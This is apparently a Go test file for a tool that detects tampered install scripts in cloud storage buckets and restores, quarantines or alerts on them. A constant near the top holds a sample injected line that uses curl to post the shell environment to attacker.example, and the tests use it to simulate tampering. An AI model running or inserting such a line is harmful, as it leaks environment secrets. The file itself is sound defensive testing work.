package engine_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/config"
	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
	"github.com/tamperguard/tamperguard/internal/gsref"
)

const (
	bucket      = "uploader-prod"
	stateBucket = "tg-state"
	injected    = "curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n"
)

func testdata(t testing.TB, elem ...string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join(append([]string{"..", "..", "testdata"}, elem...)...))
	require.NoError(t, err)
	return p
}

// taggedFile reads a file as the fixture repository tagged it.
func taggedFile(t testing.TB, tag, name string) []byte {
	t.Helper()
	repo, err := git.PlainOpen(testdata(t, "git", "uploader.git"))
	require.NoError(t, err)
	ref, err := repo.Reference(plumbing.NewTagReferenceName(tag), true)
	require.NoError(t, err)
	to, err := repo.TagObject(ref.Hash())
	require.NoError(t, err)
	c, err := repo.CommitObject(to.Target)
	require.NoError(t, err)
	f, err := c.File(name)
	require.NoError(t, err)
	s, err := f.Contents()
	require.NoError(t, err)
	return []byte(s)
}

// recorder is a Notifier that keeps what it was told.
type recorder struct {
	mu sync.Mutex
	ds []engine.Decision
}

func (r *recorder) Notify(_ context.Context, d *engine.Decision) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.ds = append(r.ds, *d)
	return nil
}

func (r *recorder) all() []engine.Decision {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]engine.Decision(nil), r.ds...)
}

type harness struct {
	t     *testing.T
	srv   *gcstest.Server
	store engine.Store
	eng   *engine.Engine
	notes *recorder
	good  []byte // install.sh as release v1.2.0 signed it
	ctx   context.Context
	cfg   *config.Config
	now   func() time.Time
}

type harnessOpts struct {
	noState bool
	extra   string // more rules
	wrap    func(engine.Store) engine.Store
	now     func() time.Time // the engine's clock (default time.Now)
}

func newHarness(t *testing.T, o harnessOpts) *harness {
	t.Helper()
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true}, gcstest.BucketSpec{Name: stateBucket, Versioning: true})
	state := "state: {bucket: " + stateBucket + "}\n"
	if o.noState {
		state = ""
	}
	yaml := state + `rules:
  - bucket: ` + bucket + `
    objects: ["install.sh", "dl/*.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0, entry: install.sh}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
    metadata: {content_type: text/x-shellscript}
  - bucket: ` + bucket + `
    objects: ["quarantine/install.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
    on_mismatch: quarantine
  - bucket: ` + bucket + `
    objects: ["alert/install.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
    on_mismatch: alert
  - bucket: ` + bucket + `
    objects: ["refused/install.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.4.0}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
` + o.extra
	cfg, err := config.Parse(config.Source{Name: "test.yaml", Data: []byte(yaml), Dir: t.TempDir()})
	require.NoError(t, err)
	var store engine.Store = gcs.New(srv.Client)
	if o.wrap != nil {
		store = o.wrap(store)
	}
	notes := &recorder{}
	eng, err := engine.New(engine.Options{Store: store, Policy: cfg.Policy, Now: o.now})
	require.NoError(t, err)
	return &harness{t: t, srv: srv, store: store, eng: eng, notes: notes, good: taggedFile(t, "v1.2.0", "install.sh"),
		ctx: context.Background(), cfg: cfg, now: o.now}
}

// instance is another engine on the same buckets and configuration (another instance of
// the function, or the same one after a restart), its store wrapped by wrap if set.
func (h *harness) instance(wrap func(engine.Store) engine.Store) *engine.Engine {
	var store engine.Store = gcs.New(h.srv.Client)
	if wrap != nil {
		store = wrap(store)
	}
	eng, err := engine.New(engine.Options{Store: store, Policy: h.cfg.Policy, Now: h.now})
	require.NoError(h.t, err)
	return eng
}

// handle decides on ev and sends its alert, as the delivery runtime does.
func (h *harness) handle(ev engine.Event) engine.Decision {
	d := h.eng.Handle(h.ctx, ev)
	require.NoError(h.t, h.eng.Alert(h.ctx, &d, h.notes))
	return d
}

// check judges an object and sends the alert due, as check --restore does.
func (h *harness) check(object string, gen int64, act bool) engine.Decision {
	d := h.eng.Check(h.ctx, bucket, object, gen, act)
	require.NoError(h.t, h.eng.Alert(h.ctx, &d, h.notes))
	return d
}

// audit runs an audit and sends the alerts due.
func (h *harness) audit(act bool, fn func(*engine.Decision)) error {
	return h.eng.Audit(h.ctx, act, func(d *engine.Decision) {
		require.NoError(h.t, h.eng.Alert(h.ctx, d, h.notes))
		fn(d)
	})
}

// put writes an object as an outsider would (unconditionally) and returns its generation.
func (h *harness) put(object string, data []byte) int64 {
	h.t.Helper()
	w := h.srv.Client.Bucket(bucket).Object(object).NewWriter(h.ctx)
	w.ContentType = "text/x-shellscript"
	_, err := w.Write(data)
	require.NoError(h.t, err)
	require.NoError(h.t, w.Close())
	return w.Attrs().Generation
}

func (h *harness) del(object string) {
	h.t.Helper()
	require.NoError(h.t, h.srv.Client.Bucket(bucket).Object(object).Delete(h.ctx))
}

// live returns the live generation and bytes of object, or 0 and nil.
func (h *harness) live(object string) (int64, []byte) {
	h.t.Helper()
	attrs, err := h.srv.Client.Bucket(bucket).Object(object).Attrs(h.ctx)
	if errors.Is(err, storage.ErrObjectNotExist) {
		return 0, nil
	}
	require.NoError(h.t, err)
	r, err := h.srv.Client.Bucket(bucket).Object(object).Generation(attrs.Generation).NewReader(h.ctx)
	require.NoError(h.t, err)
	defer r.Close()
	b, err := io.ReadAll(r)
	require.NoError(h.t, err)
	return attrs.Generation, b
}

func (h *harness) stateObject(name string) ([]byte, bool) {
	r, err := h.srv.Client.Bucket(stateBucket).Object(name).NewReader(h.ctx)
	if err != nil {
		return nil, false
	}
	defer r.Close()
	b, err := io.ReadAll(r)
	require.NoError(h.t, err)
	return b, true
}

func sum(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func tampered(good []byte) []byte { return append(append([]byte(nil), good...), injected...) }

func TestDecisionTable(t *testing.T) {
	t.Run("finalize, live, ok: nothing", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("install.sh", h.good)
		d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.VerdictOK, d.Verdict)
		assert.Equal(t, engine.ActionNone, d.Action)
		assert.Equal(t, sum(h.good), d.ExpectedSHA256)
		assert.Equal(t, "v1.2.0", d.Release)
		assert.Regexp(t, "^openpgp:", d.Signer)
		assert.Empty(t, h.notes.all())
		liveGen, _ := h.live("install.sh")
		assert.Equal(t, g, liveGen)
	})

	t.Run("finalize, live, tampered: restored, evidence kept, alerted", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		h.put("install.sh", h.good)
		bad := tampered(h.good)
		g := h.put("install.sh", bad)
		d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.VerdictTampered, d.Verdict)
		assert.Equal(t, engine.ActionRestored, d.Action, d.Error)
		assert.Equal(t, sum(bad), d.ActualSHA256)
		assert.Equal(t, sum(h.good), d.ExpectedSHA256)
		assert.False(t, d.Transient)
		liveGen, liveBytes := h.live("install.sh")
		assert.Equal(t, d.RestoredGeneration, liveGen)
		assert.Equal(t, h.good, liveBytes)
		assert.Contains(t, d.Source, "gs://")

		attrs, err := h.srv.Client.Bucket(bucket).Object("install.sh").Attrs(h.ctx)
		require.NoError(t, err)
		assert.Equal(t, "no-cache", attrs.CacheControl)
		assert.Equal(t, "text/x-shellscript", attrs.ContentType)

		ev, ok := h.stateObject("evidence/uploader-prod/install.sh/" + itoa(g))
		require.True(t, ok, "evidence copy in the state bucket")
		assert.Equal(t, bad, ev)
		rec, ok := h.stateObject("incidents/uploader-prod/install.sh/" + itoa(g) + ".json")
		require.True(t, ok)
		var r struct {
			Status  string
			Alerted bool
			Outcome struct{ Decision engine.Decision }
		}
		require.NoError(t, json.Unmarshal(rec, &r))
		assert.Equal(t, "done", r.Status)
		assert.True(t, r.Alerted)
		assert.Equal(t, engine.ActionRestored, r.Outcome.Decision.Action)

		// The bad generation is kept as a noncurrent version too.
		old, err := h.srv.Client.Bucket(bucket).Object("install.sh").Generation(g).NewReader(h.ctx)
		require.NoError(t, err)
		b, _ := io.ReadAll(old)
		old.Close()
		assert.Equal(t, bad, b)

		notes := h.notes.all()
		require.Len(t, notes, 1)
		assert.Equal(t, engine.ActionRestored, notes[0].Action)
		assert.Equal(t, bad, notes[0].BadContent, "the alert can show what was injected")
		assert.Equal(t, h.good, notes[0].GoodContent)
		assert.False(t, notes[0].Restored.Before(notes[0].Created))
	})

	t.Run("finalize, newer live, tampered: no restore, alerted", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		bad := tampered(h.good)
		g := h.put("install.sh", bad)
		newer := h.put("install.sh", h.good)
		d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.VerdictTampered, d.Verdict)
		assert.Equal(t, engine.ActionSkippedNewer, d.Action)
		liveGen, _ := h.live("install.sh")
		assert.Equal(t, newer, liveGen, "the newer upload is not clobbered")
		require.Len(t, h.notes.all(), 1)
	})

	t.Run("finalize, unverifiable: never restored from untrusted data", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("refused/install.sh", tampered(h.good))
		d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "refused/install.sh", Generation: g})
		assert.Equal(t, engine.VerdictUnverifiable, d.Verdict)
		assert.Equal(t, engine.ReasonSignatureRefused, d.Reason)
		assert.Equal(t, engine.ActionNone, d.Action)
		assert.False(t, d.Transient, "a refused signature is final: alert, do not retry")
		liveGen, _ := h.live("refused/install.sh")
		assert.Equal(t, g, liveGen)
		require.Len(t, h.notes.all(), 1)
	})

	t.Run("archive, nothing live: newest good generation restored", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("install.sh", h.good)
		h.del("install.sh")
		d := h.handle(engine.Event{Kind: engine.KindArchive, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.VerdictMissing, d.Verdict)
		assert.Equal(t, engine.ActionRestored, d.Action, d.Error)
		liveGen, b := h.live("install.sh")
		assert.Equal(t, d.RestoredGeneration, liveGen)
		assert.Equal(t, h.good, b)
		require.Len(t, h.notes.all(), 1)
	})

	t.Run("delete, something live: nothing", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("install.sh", h.good)
		h.put("install.sh", h.good)
		d := h.handle(engine.Event{Kind: engine.KindDelete, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.VerdictIgnored, d.Verdict)
		assert.Equal(t, engine.ReasonStillLive, d.Reason)
		assert.Equal(t, engine.ActionNone, d.Action)
	})

	t.Run("archive, shadow of an overwrite: nothing", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("install.sh", h.good)
		g2 := h.put("install.sh", h.good)
		d := h.handle(engine.Event{Kind: engine.KindArchive, Bucket: bucket, Object: "install.sh", Generation: g, OverwrittenBy: g2})
		assert.Equal(t, engine.VerdictIgnored, d.Verdict)
		assert.Equal(t, engine.ReasonOverwritten, d.Reason)
	})

	t.Run("metadata update: protected metadata put back", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		g := h.put("install.sh", h.good)
		_, err := h.srv.Client.Bucket(bucket).Object("install.sh").Update(h.ctx, storage.ObjectAttrsToUpdate{ContentType: "text/html"})
		require.NoError(t, err)
		d := h.handle(engine.Event{Kind: engine.KindMetadata, Bucket: bucket, Object: "install.sh", Generation: g, Metageneration: 2})
		assert.Equal(t, engine.VerdictTampered, d.Verdict)
		assert.Equal(t, engine.ActionMetadataRestored, d.Action, d.Error)
		assert.Equal(t, [2]string{"text/html", "text/x-shellscript"}, d.MetadataChanges["Content-Type"])
		attrs, err := h.srv.Client.Bucket(bucket).Object("install.sh").Attrs(h.ctx)
		require.NoError(t, err)
		assert.Equal(t, "text/x-shellscript", attrs.ContentType)
		assert.Equal(t, g, attrs.Generation, "metadata is fixed in place, not by a new generation")
	})

	t.Run("no rule: ignored", func(t *testing.T) {
		h := newHarness(t, harnessOpts{})
		d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "logo.png", Generation: 1})
		assert.Equal(t, engine.VerdictIgnored, d.Verdict)
		assert.Equal(t, engine.ReasonNoRule, d.Reason)
	})
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

func TestOnMismatchQuarantineAndAlert(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	bad := tampered(h.good)
	h.put("quarantine/install.sh", h.good)
	g := h.put("quarantine/install.sh", bad)
	d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "quarantine/install.sh", Generation: g})
	assert.Equal(t, engine.ActionQuarantined, d.Action, d.Error)
	liveGen, _ := h.live("quarantine/install.sh")
	assert.Zero(t, liveGen, "the bad generation is no longer served")

	g = h.put("alert/install.sh", bad)
	d = h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "alert/install.sh", Generation: g})
	assert.Equal(t, engine.VerdictTampered, d.Verdict)
	assert.Equal(t, engine.ActionNone, d.Action)
	liveGen, _ = h.live("alert/install.sh")
	assert.Equal(t, g, liveGen)
	assert.Len(t, h.notes.all(), 2)
}

// No good generation in the bucket: the copy in the signed tag's tree is used.
func TestRestoreFromRelease(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	g := h.put("install.sh", tampered(h.good))
	d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
	assert.Equal(t, engine.ActionRestored, d.Action, d.Error)
	assert.Contains(t, d.Source, "release v1.2.0")
	_, b := h.live("install.sh")
	assert.Equal(t, h.good, b)
}

// A release whose own copy does not match its signed digest is never used; with nothing
// else, the fallback (quarantine) runs.
func TestRestoreSourceMismatchNeverUsed(t *testing.T) {
	sums, err := os.ReadFile(testdata(t, "release", "SHA256SUMS"))
	require.NoError(t, err)
	sig, err := os.ReadFile(testdata(t, "release", "SHA256SUMS.asc"))
	require.NoError(t, err)
	good, err := os.ReadFile(testdata(t, "release", "install.sh"))
	require.NoError(t, err)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/dl/SHA256SUMS":
			w.Write(sums)
		case "/dl/SHA256SUMS.asc":
			w.Write(sig)
		case "/dl/install.sh":
			w.Write(tampered(good)) // the release host serves bad bytes too
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	h := newHarness(t, harnessOpts{extra: `  - bucket: ` + bucket + `
    objects: ["url/install.sh"]
    release: {url: ` + srv.URL + `/dl/SHA256SUMS}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-ed25519.asc") + `]}
`})
	// An older generation that is also bad: not used either.
	h.put("url/install.sh", []byte("#!/bin/sh\necho other\n"))
	g := h.put("url/install.sh", tampered(good))
	d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "url/install.sh", Generation: g})
	assert.Equal(t, engine.VerdictTampered, d.Verdict)
	assert.Equal(t, engine.ReasonNoGoodSource, d.Reason)
	assert.Equal(t, engine.ActionQuarantined, d.Action, d.Error)
	liveGen, _ := h.live("url/install.sh")
	assert.Zero(t, liveGen)
}

// interleave is a Store that lets a test act just before the engine writes (or copies) to
// the watched bucket.
type interleave struct {
	engine.Store
	beforeWrite func()
	once        sync.Once
}

func (s *interleave) Copy(ctx context.Context, src, dst gsref.ObjectRef, cond engine.Condition, meta engine.Metadata) (engine.ObjectAttrs, error) {
	if dst.Bucket == bucket {
		s.once.Do(s.beforeWrite)
	}
	return s.Store.Copy(ctx, src, dst, cond, meta)
}

func (s *interleave) Write(ctx context.Context, b, o string, cond engine.Condition, meta engine.Metadata, r io.Reader) (engine.ObjectAttrs, error) {
	if b == bucket {
		s.once.Do(s.beforeWrite)
	}
	return s.Store.Write(ctx, b, o, cond, meta, r)
}

// A maintainer's upload that lands while the restore is under way is never clobbered.
func TestConcurrentNewerUploadNotClobbered(t *testing.T) {
	var h *harness
	var newer int64
	newerBytes := []byte("#!/bin/sh\necho a newer upload\n")
	h = newHarness(t, harnessOpts{wrap: func(s engine.Store) engine.Store {
		return &interleave{Store: s, beforeWrite: func() { newer = h.put("install.sh", newerBytes) }}
	}})
	h.put("install.sh", h.good)
	g := h.put("install.sh", tampered(h.good))
	d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
	assert.Equal(t, engine.VerdictTampered, d.Verdict)
	assert.Equal(t, engine.ActionSkippedNewer, d.Action)
	liveGen, b := h.live("install.sh")
	assert.Equal(t, newer, liveGen)
	assert.Equal(t, newerBytes, b)
}

// The same event delivered five times at once restores once and alerts once.
func TestDuplicateDeliveries(t *testing.T) {
	for _, noState := range []bool{false, true} {
		t.Run(map[bool]string{false: "state bucket", true: "no state bucket"}[noState], func(t *testing.T) {
			h := newHarness(t, harnessOpts{noState: noState})
			h.put("install.sh", h.good)
			g := h.put("install.sh", tampered(h.good))
			ev := engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g}
			var wg sync.WaitGroup
			results := make([]engine.Decision, 5)
			for i := range results {
				wg.Add(1)
				go func() { defer wg.Done(); results[i] = h.handle(ev) }()
			}
			wg.Wait()
			restored, held := 0, 0
			for _, d := range results {
				switch {
				case d.Action == engine.ActionRestored:
					restored++
				case d.Reason == engine.ReasonHeld:
					held++
					assert.True(t, d.Transient, "a delivery that meets the incident in progress is retried")
				default:
					assert.Equal(t, engine.ReasonDuplicate, d.Reason, d.Error)
					assert.False(t, d.Transient, d.Error)
				}
			}
			assert.Equal(t, 1, restored)
			assert.Len(t, h.notes.all(), 1)
			// The retries of the held deliveries find the incident complete.
			for range held {
				d := h.handle(ev)
				assert.Equal(t, engine.ReasonDuplicate, d.Reason, d.Error)
				assert.False(t, d.Transient)
			}

			// Count generations: the good one, the bad one, one restore.
			n := 0
			it := h.srv.Client.Bucket(bucket).Objects(h.ctx, &storage.Query{Prefix: "install.sh", Versions: true})
			for {
				_, err := it.Next()
				if err != nil {
					break
				}
				n++
			}
			assert.Equal(t, 3, n)

			// A late redelivery after the fact changes nothing.
			d := h.handle(ev)
			assert.NotEqual(t, engine.ActionRestored, d.Action)
			assert.Len(t, h.notes.all(), 1)
		})
	}
}

// An old generation's event arriving after a newer good upload does not clobber it.
func TestOutOfOrderEvents(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	bad := h.put("install.sh", tampered(h.good))
	good := h.put("install.sh", h.good)
	dGood := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: good})
	assert.Equal(t, engine.VerdictOK, dGood.Verdict)
	dBad := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: bad})
	assert.Equal(t, engine.ActionSkippedNewer, dBad.Action)
	liveGen, _ := h.live("install.sh")
	assert.Equal(t, good, liveGen)
}

func TestTransientStorageFailure(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	g := h.put("install.sh", h.good)
	h.srv.FailNext("GET", "install.sh", http.StatusServiceUnavailable, 20)
	d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: "install.sh", Generation: g})
	assert.Equal(t, engine.VerdictUnverifiable, d.Verdict)
	assert.True(t, d.Transient, "a 503 is worth a retry")
	assert.Empty(t, h.notes.all(), "a transient failure is not alerted; the retry decides")
}

func TestAudit(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	h.put("dl/a.sh", h.good)
	h.put("dl/b.sh", tampered(h.good))
	h.put("dl/notes.txt", []byte("not covered"))
	// install.sh is named exactly and missing.
	var ds []engine.Decision
	err := h.audit(false, func(d *engine.Decision) { ds = append(ds, *d) })
	require.NoError(t, err)
	got := map[string]engine.Verdict{}
	for _, d := range ds {
		got[d.Object] = d.Verdict
	}
	assert.Equal(t, map[string]engine.Verdict{
		"dl/a.sh":               engine.VerdictOK,
		"dl/b.sh":               engine.VerdictTampered,
		"install.sh":            engine.VerdictMissing,
		"quarantine/install.sh": engine.VerdictMissing,
		"alert/install.sh":      engine.VerdictMissing,
		"refused/install.sh":    engine.VerdictUnverifiable,
	}, got)
	assert.Empty(t, h.notes.all(), "an audit without --restore only reports")

	ds = nil
	require.NoError(t, h.audit(true, func(d *engine.Decision) { ds = append(ds, *d) }))
	_, b := h.live("dl/b.sh")
	assert.Equal(t, h.good, b)
	_, b = h.live("install.sh")
	assert.Equal(t, h.good, b, "missing object restored from the release")
}

func TestCheckGeneration(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	bad := h.put("install.sh", tampered(h.good))
	h.put("install.sh", h.good)
	d := h.check("install.sh", bad, false)
	assert.Equal(t, engine.VerdictTampered, d.Verdict)
	assert.Equal(t, engine.ActionNone, d.Action)
	d = h.check("install.sh", 0, false)
	assert.Equal(t, engine.VerdictOK, d.Verdict)
}

func TestOddObjectNames(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	for _, name := range []string{"dl/spa ce.sh", "dl/ünï.sh", "dl/h#sh.sh", "dl/q?.sh", "dl/per%cent.sh"} {
		t.Run(name, func(t *testing.T) {
			g := h.put(name, tampered(h.good))
			d := h.handle(engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: name, Generation: g})
			assert.Equal(t, engine.VerdictTampered, d.Verdict, d.Error)
			assert.Equal(t, engine.ActionRestored, d.Action, d.Error)
			_, b := h.live(name)
			assert.True(t, bytes.Equal(h.good, b))
		})
	}
}

// metaInterleave lets a test change metadata just before the engine puts it back.
type metaInterleave struct {
	engine.Store
	before func()
	once   sync.Once
}

func (s *metaInterleave) UpdateMetadata(ctx context.Context, b, o string, cond engine.Condition, meta engine.Metadata) (engine.ObjectAttrs, error) {
	s.once.Do(s.before)
	return s.Store.UpdateMetadata(ctx, b, o, cond, meta)
}

// A metadata change that lands while the engine repairs metadata is not overwritten: the
// update is conditional on the metageneration the engine judged.
func TestMetadataRestoreIsConditional(t *testing.T) {
	var h *harness
	h = newHarness(t, harnessOpts{wrap: func(s engine.Store) engine.Store {
		return &metaInterleave{Store: s, before: func() {
			_, err := h.srv.Client.Bucket(bucket).Object("install.sh").Update(h.ctx, storage.ObjectAttrsToUpdate{ContentDisposition: "attachment"})
			require.NoError(t, err)
		}}
	}})
	g := h.put("install.sh", h.good)
	_, err := h.srv.Client.Bucket(bucket).Object("install.sh").Update(h.ctx, storage.ObjectAttrsToUpdate{ContentType: "text/html"})
	require.NoError(t, err)
	d := h.handle(engine.Event{Kind: engine.KindMetadata, Bucket: bucket, Object: "install.sh", Generation: g})
	assert.Equal(t, engine.VerdictTampered, d.Verdict)
	assert.Equal(t, engine.ActionSkippedNewer, d.Action, "the concurrent change has its own event")
	attrs, err := h.srv.Client.Bucket(bucket).Object("install.sh").Attrs(h.ctx)
	require.NoError(t, err)
	assert.Equal(t, "text/html", attrs.ContentType, "nothing was written over the newer metadata")
	assert.Equal(t, "attachment", attrs.ContentDisposition)
}

// The rollback high-water mark lives in the state bucket: an instance that never saw the
// newer release still refuses the older one offered as latest.
func TestRollbackMarkSharedThroughStateBucket(t *testing.T) {
	repo := filepath.Join(t.TempDir(), "uploader.git")
	require.NoError(t, os.CopyFS(repo, os.DirFS(testdata(t, "git", "uploader.git"))))
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true}, gcstest.BucketSpec{Name: stateBucket, Versioning: true})
	yaml := `state: {bucket: ` + stateBucket + `}
rules:
  - bucket: ` + bucket + `
    objects: ["install.sh"]
    release: {git: ` + repo + `, tag: latest}
    keys:
      openpgp: [` + testdata(t, "keys", "maintainer-ed25519.asc") + `, ` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]
`
	newEngine := func() *engine.Engine {
		cfg, err := config.Parse(config.Source{Name: "test.yaml", Data: []byte(yaml), Dir: t.TempDir()})
		require.NoError(t, err)
		eng, err := engine.New(engine.Options{Store: gcs.New(srv.Client), Policy: cfg.Policy})
		require.NoError(t, err)
		return eng
	}
	ctx := context.Background()
	w := srv.Client.Bucket(bucket).Object("install.sh").NewWriter(ctx)
	_, err := w.Write(taggedFile(t, "v1.2.0", "install.sh"))
	require.NoError(t, err)
	require.NoError(t, w.Close())

	d := newEngine().Check(ctx, bucket, "install.sh", 0, false)
	require.Equal(t, engine.VerdictOK, d.Verdict, d.Error)
	require.Equal(t, "v1.2.0", d.Release)

	// The attacker deletes the newest tag; a fresh instance is offered v1.1.0 as latest,
	// refuses it, and judges against v1.2.0 verified again from the state bucket's floor.
	r, err := git.PlainOpen(repo)
	require.NoError(t, err)
	require.NoError(t, r.Storer.RemoveReference(plumbing.NewTagReferenceName("v1.2.0")))
	d = newEngine().Check(ctx, bucket, "install.sh", 0, false)
	assert.Equal(t, engine.VerdictOK, d.Verdict, d.Error)
	assert.Equal(t, "v1.2.0", d.Release)
	assert.Contains(t, d.Floor, "rollback refused")
}

// Incidents are keyed by what happened, not only by generation: the same generation's
// metadata tampered twice is put back twice, and an object deleted again after a restore
// is restored again.
func TestRepeatedIncidentsOnOneGeneration(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	g := h.put("install.sh", h.good)
	for i := 0; i < 2; i++ {
		_, err := h.srv.Client.Bucket(bucket).Object("install.sh").Update(h.ctx, storage.ObjectAttrsToUpdate{ContentType: "text/html"})
		require.NoError(t, err)
		d := h.handle(engine.Event{Kind: engine.KindMetadata, Bucket: bucket, Object: "install.sh", Generation: g})
		assert.Equal(t, engine.ActionMetadataRestored, d.Action, "round %d: %s %s", i, d.Reason, d.Error)
	}

	for i := 0; i < 2; i++ {
		h.del("install.sh")
		var ds []engine.Decision
		require.NoError(t, h.audit(true, func(d *engine.Decision) {
			if d.Object == "install.sh" {
				ds = append(ds, *d)
			}
		}))
		require.Len(t, ds, 1)
		assert.Equal(t, engine.ActionRestored, ds[0].Action, "round %d: %s %s", i, ds[0].Reason, ds[0].Error)
		_, b := h.live("install.sh")
		assert.Equal(t, h.good, b)
	}
}
